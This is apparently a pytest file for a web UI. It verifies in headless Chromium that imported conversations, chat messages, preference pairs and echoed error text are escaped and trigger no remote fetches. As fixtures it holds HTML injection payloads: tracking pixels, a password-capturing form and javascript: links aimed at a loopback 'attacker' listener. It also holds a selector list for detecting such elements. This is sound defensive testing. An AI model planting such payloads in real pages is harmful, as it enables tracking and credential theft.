"""Untrusted text on the real page (headless Chromium): conversation text from an imported file, a chat message
and an error message that echoes what the visitor typed are shown as text. No HTML from them becomes an element,
and nothing in them makes the browser fetch a remote address.

A tiny HTTP listener on loopback stands in for the attacker's server: every address in the payload points at it,
and it records every request it gets. At the end the page itself fetches a sentinel address from the listener, so
the test knows the listener is reachable from the page (a payload fetch would have reached it too).

The helpers of ``studio.ui.common`` that do the escaping are checked directly first (no browser).
"""

from __future__ import annotations

import html
import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pandas as pd
import pytest
from browser_util import chromium, new_page, serve, wait_uploaded
from markdown_it import MarkdownIt

from studio.ui.common import chat_messages, md_code, md_table, md_text, message_html, toast_text

TRICKY = ['<img src="http://h/p.png">', "![x](http://h/m.png)", "[l](javascript:alert(1))", "&lt;b&gt; &amp; &#60;i>",
          "*em* _u_ `code` ``two`` **b**", "# heading", "> quote", "1. item", "- item", "a | b | c", "\\<i>\\",
          "<http://h/auto>", "www.example.com http://h/bare", "a  \n b", "$$x$$", "<!-- c -->", "~~s~~", ""]

PNG_1PX = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                        "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")


def test_md_text_shows_any_text_literally():
    """Rendered by a CommonMark renderer, ``md_text`` of any text is that text, escaped once, and nothing else: no
    tag, entity, link, image, code or emphasis; Markdown table cells from ``md_table`` likewise."""
    md = MarkdownIt("commonmark", {"html": True})
    for text in TRICKY:
        rendered = md.renderInline(md_text(text))
        assert html.unescape(rendered) == re.sub(r"\s*\n\s*", " ", text), (text, rendered)
        assert "<" not in rendered, (text, rendered)
    df = md_table(pd.DataFrame({"id": [1, 2], "title": ["<img src=x>", None], "n": [1.5, float("nan")]}))
    assert df.values.tolist() == [["1", "\\<img src\\=x\\>", "1\\.5"], ["2", "", ""]]
    for text in ("a `b` c", "``", "`x", "<i>"):
        rendered = md.renderInline(md_code(text))
        assert rendered.startswith("<code>") and html.unescape(rendered[6:-7]).strip() == text.strip()


def test_message_html_formats_markdown_and_escapes_the_rest():
    out = message_html('Hi **there** <img src="http://h/p.png"> ![x](http://h/m.png "t") [ok](https://ok.example) '
                       '[bad](javascript:alert(1)) [rel](/gradio_api/file=x) <form action="http://h/s"><input name=pw>'
                       '\n\n```html\n<b>code</b>\n```\n\n![ref][r]\n\n[r]: http://h/ref.png')
    assert "<strong>there</strong>" in out
    assert "&lt;img src=&quot;http://h/p.png&quot;&gt;" in out
    assert "<img" not in out and "<form" not in out and "<input" not in out
    assert '![x](http://h/m.png "t")' in html.unescape(out) and "![ref](http://h/ref.png)" in html.unescape(out)
    assert '<a href="https://ok.example" target="_blank" rel="noopener noreferrer nofollow">ok</a>' in out
    assert "[bad](javascript:alert(1))" in out and "[rel](/gradio_api/file=x)" in out
    assert out.count("<a ") == 1
    assert '<pre><code class="language-html">&lt;b&gt;code&lt;/b&gt;' in out
    assert chat_messages([{"role": "user", "content": "<i>x</i>", "extra": 1}]) == \
        [{"role": "user", "content": "<p>&lt;i&gt;x&lt;/i&gt;</p>\n"}]
    assert toast_text("model name '<img src=x>' & co") == "model name '&lt;img src=x&gt;' &amp; co"


class Listener:
    """An HTTP server on a free loopback port that answers everything with a 1x1 PNG and records the paths."""

    def __init__(self):
        self.paths: list[str] = []
        self.got = threading.Condition()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self):
                with outer.got:
                    outer.paths.append(self.path)
                    outer.got.notify_all()
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(PNG_1PX)))
                self.end_headers()
                self.wfile.write(PNG_1PX)

            do_GET = do_POST = _answer

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def wait_for(self, path: str, timeout: float = 30.0) -> bool:
        """Block until ``path`` has been requested (True) or ``timeout`` seconds passed (False)."""
        with self.got:
            return self.got.wait_for(lambda: path in self.paths, timeout=timeout)

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    lst = Listener()
    yield lst
    lst.close()


@pytest.fixture
def server(settings):
    from studio.server import create_server

    app, studio = create_server(settings)
    with serve(app) as url:
        yield url, studio
    studio.close()


def payload(base: str, tag: str) -> str:
    """Hostile text: a tracking pixel, a Markdown image, a password form and a javascript: link, all pointing at
    the listener (paths named after ``tag`` so a request tells where it came from)."""
    return (f'zebrafish {tag} <img src="{base}/{tag}-pixel.png"> ![x]({base}/{tag}-md.png) '
            f'<form action="{base}/{tag}-steal"><input name=pw></form> <a href="javascript:alert(1)">x</a> end')


# elements the payload could create, looked for inside a container (the page's own elements are outside them)
HOSTILE = "img, form, input[name=pw], a[href^='javascript'], a[href*='127.0.0.1'], iframe, object, embed"


def hostile_in(page, selector: str) -> list[str]:
    """outerHTML of every element matching ``HOSTILE`` inside the elements matching ``selector``."""
    return page.evaluate("([sel, bad]) => [...document.querySelectorAll(sel)].flatMap(c => "
                         "[...c.querySelectorAll(bad)].map(e => e.outerHTML))", [selector, HOSTILE])


def text_of(page, selector: str) -> str:
    return page.evaluate("s => [...document.querySelectorAll(s)].map(e => e.innerText).join('\\n')", selector)


def _wait_text(page, selector: str, text: str, timeout: int = 30_000) -> None:
    page.wait_for_function("([s, t]) => [...document.querySelectorAll(s)].some(e => e.innerText.includes(t))",
                           arg=[selector, text], timeout=timeout)


@pytest.mark.browser
def test_untrusted_text_is_shown_as_text_and_fetches_nothing(server, listener, tmp_path):
    url, studio = server
    base = listener.base
    rows = [
        {"id": "evil", "conversations": [
            {"from": "system", "value": payload(base, "system")},
            {"from": "human", "value": payload(base, "human")},
            {"from": "gpt", "value": payload(base, "gpt") + "\n\n```html\n<b>code stays code</b>\n```"}]},
        # a bad row whose reason echoes the unknown role, shown in the import result
        {"id": "bad", "conversations": [{"from": f'<img src="{base}/role-pixel.png">', "value": "hi"},
                                        {"from": "gpt", "value": "hello"}]},
    ]
    f = tmp_path / "evil.json"
    f.write_text(json.dumps(rows))

    with chromium() as browser:
        page = new_page(browser)
        page.goto(url)
        page.wait_for_selector("#data-table")

        # import: the bad row's reason names the role as text
        page.locator("#data-upload input[type=file]").set_input_files(str(f))
        wait_uploaded(page, "#data-upload", "evil.json")
        page.click("#data-import")
        _wait_text(page, "#data-import-result", "1 bad rows skipped")
        _wait_text(page, "#data-import-result", f'<img src="{base}/role-pixel.png">')
        assert hostile_in(page, "#data-import-result") == []

        # the table (the first message's text is a column), the Data tab's chat view and header
        _wait_text(page, "#data-table", "zebrafish")
        # (the title column is cut at a word to 40 characters: "<img…", still the text, not an element)
        _wait_text(page, "#data-table", "<img")
        assert hostile_in(page, "#data-table") == []
        page.locator('#data-table [data-testid="cell-0-0"]').click()
        page.wait_for_selector("#data-editor", state="visible")
        _wait_text(page, "#data-chat", "gpt-pixel.png")
        _wait_text(page, "#data-conv-header", "system-pixel.png")
        chat = text_of(page, "#data-chat")
        assert f'<img src="{base}/human-pixel.png">' in chat and f'<img src="{base}/gpt-pixel.png">' in chat
        assert f"![x]({base}/gpt-md.png)" in chat
        assert '<form action="' in chat and '<a href="javascript:alert(1)">x</a>' in chat
        assert hostile_in(page, "#data-chat") == []
        assert hostile_in(page, "#data-conv-header") == []
        assert "<img src=" in text_of(page, "#data-conv-header")
        # Markdown still formats: the fenced block is a code block holding its text, not a <b> element
        assert page.locator("#data-chat pre code").filter(has_text="<b>code stays code</b>").count() == 1
        assert page.locator("#data-chat b").filter(has_text="code stays code").count() == 0

        # search: the snippet keeps its highlight and shows the payload as text
        q = page.locator("#data-search input, #data-search textarea").first
        q.fill("zebrafish")
        q.press("Enter")
        _wait_text(page, "#data-count", "matching")
        _wait_text(page, "#data-table", "<img")
        assert hostile_in(page, "#data-table") == []
        assert page.locator("#data-table strong, #data-table mark").filter(has_text="zebrafish").count() >= 1

        # the Chat tab: the user's own message is shown as text
        page.get_by_role("tab", name="Chat").click()
        page.wait_for_function("(document.querySelector('#chat-info')?.innerText || '').includes('template')")
        box = page.locator("#chat-max-new input[type=number]")
        box.fill("16")
        box.press("Tab")
        page.fill("#chat-input textarea", payload(base, "chat"))
        page.press("#chat-input textarea", "Enter")
        _wait_text(page, "#chat-bot", "chat-pixel.png")
        page.wait_for_function("!document.querySelector('#chat-bot .progress-text, #chat-bot .pending') && "
                               "document.querySelectorAll('#chat-bot .message-row').length >= 2", timeout=120_000)
        # the page is idle once the reply streams, but the model may still be generating: wait until its engine
        # has nothing left, so no generation outlives the test
        from studio.registry import DEFAULT_MODEL_NAME
        from test_train_runs import wait_for

        engine = studio.registry.load(DEFAULT_MODEL_NAME).engine
        wait_for(engine.idle, timeout=120, what="the default model's engine to be idle")
        assert f'<img src="{base}/chat-pixel.png">' in text_of(page, "#chat-bot")
        assert hostile_in(page, "#chat-bot") == []

        # an error toast that echoes the visitor's text (an invalid model name)
        page.get_by_role("tab", name="Models").click()
        page.fill("#models-ep-name textarea, #models-ep-name input", f'<img src="{base}/toast-pixel.png">')
        page.fill("#models-ep-url textarea, #models-ep-url input", f"{base}/v1")
        page.fill("#models-ep-model textarea, #models-ep-model input", "m")
        page.click("#models-ep-add")
        _wait_text(page, '[data-testid="toast-body"]', "is not allowed")
        assert "<img src=" in text_of(page, '[data-testid="toast-body"]')
        assert hostile_in(page, '[data-testid="toast-body"]') == []

        # the listener is reachable from the page, and the sentinel is the only request it got
        page.evaluate("u => fetch(u, {mode: 'no-cors'})", f"{base}/sentinel")
        assert listener.wait_for("/sentinel"), "the page could not reach the listener: the test proves nothing"
        assert listener.paths == ["/sentinel"], f"the page fetched payload addresses: {listener.paths}"


@pytest.mark.browser
def test_preference_pairs_and_set_names_are_shown_as_text(server, listener, tmp_path):
    """The Preferences tab shows what models answered and what files hold: an Arena vote whose prompt, answers and
    model names carry the payload, built into a set under a hostile name typed by the visitor, and an imported
    TRL file whose rows carry it. The summary, the build message and the pair table show it as text; nothing is
    fetched."""
    url, studio = server
    base = listener.base
    studio.store.add_battle({
        "model_a": "model-<b>a</b>", "model_b": "model-b", "winner": "model_a", "judge": "browser:x",
        "conversation_a": [{"role": "user", "content": payload(base, "prompt")},
                           {"role": "assistant", "content": payload(base, "chosen")}],
        "conversation_b": [{"role": "user", "content": payload(base, "prompt")},
                           {"role": "assistant", "content": payload(base, "rejected")}]})
    f = tmp_path / "pairs.jsonl"
    f.write_text(json.dumps({"prompt": payload(base, "fprompt"), "chosen": payload(base, "fchosen"),
                             "rejected": payload(base, "frejected")}) + "\n")
    with chromium() as browser:
        page = new_page(browser)
        page.goto(url)
        page.get_by_role("tab", name="Preferences").click()
        page.fill("#prefs-name input, #prefs-name textarea", f'<img src="{base}/setname-pixel.png">')
        page.click("#prefs-build")
        _wait_text(page, "#prefs-out", "1 pairs")
        _wait_text(page, "#prefs-summary", "1 pairs kept")
        _wait_text(page, "#prefs-pairs", "zebrafish chosen")
        for sel in ("#prefs-out", "#prefs-summary", "#prefs-pairs"):
            assert hostile_in(page, sel) == [], sel
        assert f'<img src="{base}/setname-pixel.png">' in text_of(page, "#prefs-summary")
        assert "model-<b>a</b>" in text_of(page, "#prefs-summary")
        assert "zebrafish rejected <img" in text_of(page, "#prefs-pairs")

        page.locator("#prefs-upload input[type=file]").set_input_files(str(f))
        wait_uploaded(page, "#prefs-upload", "pairs.jsonl")
        page.click("#prefs-import")
        _wait_text(page, "#prefs-out", "Imported 1 pairs")
        _wait_text(page, "#prefs-pairs", "zebrafish fchosen")
        for sel in ("#prefs-out", "#prefs-summary", "#prefs-pairs"):
            assert hostile_in(page, sel) == [], sel
        assert "zebrafish fprompt <img" in text_of(page, "#prefs-pairs")

        page.evaluate("u => fetch(u, {mode: 'no-cors'})", f"{base}/sentinel")
        assert listener.wait_for("/sentinel"), "the page could not reach the listener: the test proves nothing"
        assert listener.paths == ["/sentinel"], f"the page fetched payload addresses: {listener.paths}"
